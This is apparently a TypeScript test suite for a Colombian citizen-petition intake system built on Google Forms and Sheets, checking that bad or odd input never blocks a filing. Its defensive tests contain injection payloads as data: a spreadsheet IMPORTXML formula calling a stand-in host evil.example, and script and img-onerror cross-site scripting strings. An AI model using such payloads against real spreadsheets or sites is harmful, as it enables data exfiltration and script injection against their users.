// Issue 4, "Bad input": what citizens type and what clerks do to the form never stops a filing
// (CPACA art. 15: a petition exists from its receipt); problems become alerts for staff, citizen
// text is stored as text (never a formula), escaped where it is shown, and kept whole.
import {
  bogota,
  citizen,
  CITIZEN_EMAIL,
  CLERK,
  Desk,
  historyOf,
  expectEachResponseOnce,
  itemIds,
  useBuiltBundle,
} from './fixtures';

useBuiltBundle();

const AT = bogota('2026-02-03T10:00:00');

/** Only the required answers of an identified filer; every optional question left blank. */
const REQUIRED_ONLY = {
  type: 'queja',
  anonymous: false,
  applicantKind: 'Persona natural',
  idType: 'Cédula de ciudadanía',
  idNumber: '43123456',
  name: 'Pedro Pablo León',
  preferredChannel: 'Recoger en la entidad',
  acceptsEmailNotification: false,
  subject: 'Atención en la ventanilla',
  description: 'Me atendieron tarde.',
  consent: true,
} as const;

describe('bad input at intake', () => {
  it('radicates a filing with every optional answer missing or empty', () => {
    const desk = new Desk();
    const result = desk.submit(
      { ...REQUIRED_ONLY, email: '', phone: '', address: '', municipality: '', priority: [] },
      AT,
    );
    const [record] = desk.casesFor(result.responseId);
    expect(record.radicado).toBe('2026-000001');
    expect(record.type).toBe('queja');
    for (const header of ['Correo electrónico', 'Teléfono', 'Dirección', 'Municipio'])
      expect(desk.value('Radicados', desk.rowsOf(result.responseId)[0], header)).toBe('');
    // Nobody to acknowledge by mail, but the assignee hears of it with the next sweep.
    expect(desk.outbox().filter((m) => m.kind === 'acuse')).toEqual([]);
    desk.sweep();
    expect(desk.mailTo(CLERK)).toHaveLength(1);
    expectEachResponseOnce(desk);
  });

  it('radicates when a required question was removed from the form, with an alert naming it', () => {
    const desk = new Desk();
    const form = desk.form();
    const subjectId = itemIds(desk).subject!;
    form.items.splice(
      form.items.findIndex((i) => i.id === subjectId),
      1,
    ); // a clerk deletes "Asunto" in the Forms editor
    const answers = { ...citizen() };
    delete answers.subject;
    const result = desk.submit(answers, AT);
    expect(result.runs[0].error).toBeNull();
    const [record] = desk.casesFor(result.responseId);
    expect(record.radicado).toBe('2026-000001');
    expect(record.description).toBe(citizen().description);
    expect(record.alerts.some((a) => a.includes('"Asunto"'))).toBe(true);
    expectEachResponseOnce(desk);
  });

  it('maps answers by question identity when a clerk renames and reorders questions', () => {
    const desk = new Desk();
    const form = desk.form();
    const ids = itemIds(desk);
    form.item(ids.subject!)!.title = 'Tema';
    form.item(ids.description!)!.title = 'Cuéntenos qué pasó';
    form.item(ids.email!)!.title = 'E-mail';
    // …and moves the description above the subject.
    const description = form.items.findIndex((i) => i.id === ids.description);
    const [moved] = form.items.splice(description, 1);
    form.items.splice(
      form.items.findIndex((i) => i.id === ids.subject),
      0,
      moved,
    );
    const result = desk.submit(
      citizen({ subject: 'Poda de árboles', description: 'Los árboles tapan el alumbrado.' }),
      AT,
    );
    const [record] = desk.casesFor(result.responseId);
    expect(record.subject).toBe('Poda de árboles');
    expect(record.description).toBe('Los árboles tapan el alumbrado.');
    // The row shows the address masked (Ley 1581); the data store keeps it as typed.
    expect(record.petitioner.email).toBe('m•••@example.com');
    desk.sweep();
    expect(desk.contactOf(record.radicado)?.email).toBe(CITIZEN_EMAIL);
    expect(record.alerts).toEqual([]);
    expectEachResponseOnce(desk);
  });

  it('radicates a filing with an invalid email: flagged, no acknowledgement, assignee notified', () => {
    const desk = new Desk();
    const bad = 'maria.ruiz@@example';
    const result = desk.submit(citizen({ email: bad }), AT);
    const [record] = desk.casesFor(result.responseId);
    expect(record.radicado).toBe('2026-000001');
    // Flagged by field, never by value: the alert reaches the Historial, kept forever (Ley 1581).
    expect(
      record.alerts.some((a) => a.includes('correo electrónico') && a.includes('no es válido')),
    ).toBe(true);
    desk.sweep(); // the radication's lines reach the Historial
    const lines = historyOf(desk, record.radicado).map((l) => String(l.details));
    expect(lines.some((d) => d.includes('no es válido'))).toBe(true);
    expect(lines.filter((d) => d.includes(bad))).toEqual([]);
    expect(desk.ws.mail.sent.filter((m) => m.to.includes(bad))).toEqual([]);
    expect(desk.outbox().filter((m) => m.kind === 'acuse')).toEqual([]);
    desk.sweep();
    expect(desk.mailTo(CLERK).map((m) => m.subject.includes('2026-000001'))).toEqual([true]);
    expect(result.runs.map((r) => r.error)).toEqual([null]);
    expectEachResponseOnce(desk);
  });

  it('stores formula-looking text as text: no formulas in the row, values as typed', () => {
    const desk = new Desk();
    const typed = {
      subject: '=IMPORTXML("https://evil.example/x","//a")',
      description: '-1',
      name: '@x',
      address: '+57 300 1234567',
      municipality: '=1+1',
    };
    const result = desk.submit(citizen(typed), AT);
    const [row] = desk.rowsOf(result.responseId);
    const sheet = desk.scriptView().getSheetByName('Radicados');
    const width = sheet.getLastColumn();
    const formulas = sheet.getRange(row, 1, 1, width).getFormulas()[0];
    expect(formulas.filter((f) => f !== '')).toEqual([]);
    expect(desk.value('Radicados', row, 'Asunto')).toBe(typed.subject);
    expect(desk.value('Radicados', row, 'Descripción')).toBe('-1');
    expect(desk.value('Radicados', row, 'Peticionario')).toBe('@x');
    // The address is only in the data store (masked here), stored there as typed, as text.
    expect(desk.value('Radicados', row, 'Dirección')).toBe('•••');
    expect(desk.value('Radicados', row, 'Municipio')).toBe('=1+1');
    desk.sweep();
    const radicado = String(desk.value('Radicados', row, 'Radicado'));
    expect(desk.contactOf(radicado)).toMatchObject({ name: '@x', address: '+57 300 1234567' });
    const store = desk.dataStore().requireSheet('Peticionarios');
    for (let r = 1; r <= store.lastRow(); r += 1)
      for (let c = 1; c <= store.lastColumn(); c += 1)
        expect(store.cell(r, c)?.formula).toBeUndefined();
    // The other sheets that repeat citizen text hold no formulas either.
    for (const name of ['Historial', 'Bandeja de salida']) {
      const other = desk.scriptView().getSheetByName(name);
      const last = desk.model.requireSheet(name).lastRow();
      const all = other.getRange(1, 1, last, other.getLastColumn()).getFormulas().flat();
      expect(all.filter((f) => f !== '')).toEqual([]);
    }
    expectEachResponseOnce(desk);
  });

  it('keeps ID numbers and phone numbers exactly as typed (leading zeros, +57)', () => {
    const desk = new Desk();
    const result = desk.submit(citizen({ idNumber: '0012345678', phone: '+573001234567' }), AT);
    const [row] = desk.rowsOf(result.responseId);
    // The tracking sheet shows the last four digits; the data store keeps them as typed.
    expect(desk.value('Radicados', row, 'Número de documento')).toBe('•••5678');
    expect(desk.value('Radicados', row, 'Teléfono')).toBe('•••4567');
    const [record] = desk.casesFor(result.responseId);
    desk.sweep();
    expect(desk.contactOf(record.radicado)).toMatchObject({
      idNumber: '0012345678',
      phone: '+573001234567',
    });
  });

  it('stores HTML and script tags verbatim in the sheet and escapes them in mail', () => {
    const desk = new Desk();
    const typed = {
      subject: '<script>alert("x")</script> Reclamo',
      name: '<img src=x onerror=alert(1)> Rosa',
      description: '<b>negrita</b> & <i>cursiva</i>',
    };
    const result = desk.submit(citizen(typed), AT);
    const [row] = desk.rowsOf(result.responseId);
    expect(desk.value('Radicados', row, 'Asunto')).toBe(typed.subject);
    expect(desk.value('Radicados', row, 'Peticionario')).toBe(typed.name);
    expect(desk.value('Radicados', row, 'Descripción')).toBe(typed.description);
    const [ack] = desk.mailTo(CITIZEN_EMAIL);
    expect(ack.htmlBody).toBeDefined();
    expect(ack.htmlBody).not.toContain('<script');
    expect(ack.htmlBody).not.toContain('<img');
    expect(ack.htmlBody).toContain('&lt;script&gt;');
    for (const mail of desk.ws.mail.sent) {
      expect(mail.htmlBody ?? '').not.toContain('<script');
      expect(mail.htmlBody ?? '').not.toContain('<img');
    }
    expectEachResponseOnce(desk);
  });

  it('radicates a 60,000-character description, keeping the full text in "Textos largos"', () => {
    const desk = new Desk();
    const full = longText(60_000);
    const result = desk.submit(citizen({ description: full }), AT);
    expectLongTextKept(desk, result.responseId, full);
  });

  it('…also when the form is not linked to a response sheet', () => {
    // Same filing, with the response sheet unlinked by a person (Forms: "Unlink form"), so only
    // the product's own handling of the long answer is exercised.
    const desk = new Desk();
    desk.form().destination = null;
    const full = longText(60_000);
    const result = desk.submit(citizen({ description: full }), AT);
    expectLongTextKept(desk, result.responseId, full);
  });

  it('normalises emoji and combining characters to NFC without breaking them', () => {
    const desk = new Desk();
    const typed = {
      name: 'Jose\u0301 Pe\u0301rez 👩🏽‍🌾',
      subject: 'Cafe\u0301 y arepa ☕ 🇨🇴',
      description: 'Año 2026: ni\u00f1os sin transporte 🚌🚌 — se\u0301ptimo reclamo',
    };
    const result = desk.submit(citizen(typed), AT);
    const [row] = desk.rowsOf(result.responseId);
    const name = desk.value('Radicados', row, 'Peticionario');
    expect(name).toBe('Jos\u00e9 P\u00e9rez 👩🏽‍🌾');
    expect(String(name)).not.toContain('\u0301');
    expect(desk.value('Radicados', row, 'Asunto')).toBe('Caf\u00e9 y arepa ☕ 🇨🇴');
    expect(desk.value('Radicados', row, 'Descripción')).toBe(typed.description.normalize('NFC'));
    const [ack] = desk.mailTo(CITIZEN_EMAIL);
    expect(ack.body).toContain('Jos\u00e9 P\u00e9rez 👩🏽‍🌾');
    expectEachResponseOnce(desk);
  });
});

/** Numbered segments, so a reordering or a lost chunk shows. */
function longText(length: number): string {
  let text = '';
  for (let i = 0; text.length < length; i += 1)
    text += `[${String(i).padStart(5, '0')}] Hechos de la solicitud. `;
  // Ends on a visible character: intake trims surrounding whitespace, as it should.
  return `${text.slice(0, length - 1)}.`;
}

function expectLongTextKept(desk: Desk, responseId: string, full: string): void {
  const cases = desk.casesFor(responseId);
  expect(cases).toHaveLength(1);
  const [record] = cases;
  const [row] = desk.rowsOf(responseId);
  const cell = String(desk.value('Radicados', row, 'Descripción'));
  expect(cell.length).toBeGreaterThan(0);
  expect(cell.length).toBeLessThanOrEqual(50_000);
  expect(full.startsWith(cell)).toBe(true);
  const chunks = desk
    .longTexts()
    .filter((r) => r.radicado === record.radicado && r.field === 'description');
  expect(chunks.length).toBeGreaterThanOrEqual(2);
  for (const chunk of chunks) expect(String(chunk.text).length).toBeLessThanOrEqual(50_000);
  // Rows are in order and numbered in order.
  expect(chunks.map((c) => Number(c.part))).toEqual(chunks.map((_, i) => i + 1));
  const joined = chunks.map((c) => String(c.text)).join('');
  expect(joined.length).toBe(full.length);
  expect(joined === full).toBe(true);
  expect(record.alerts.some((a) => a.includes('Textos largos'))).toBe(true);
}
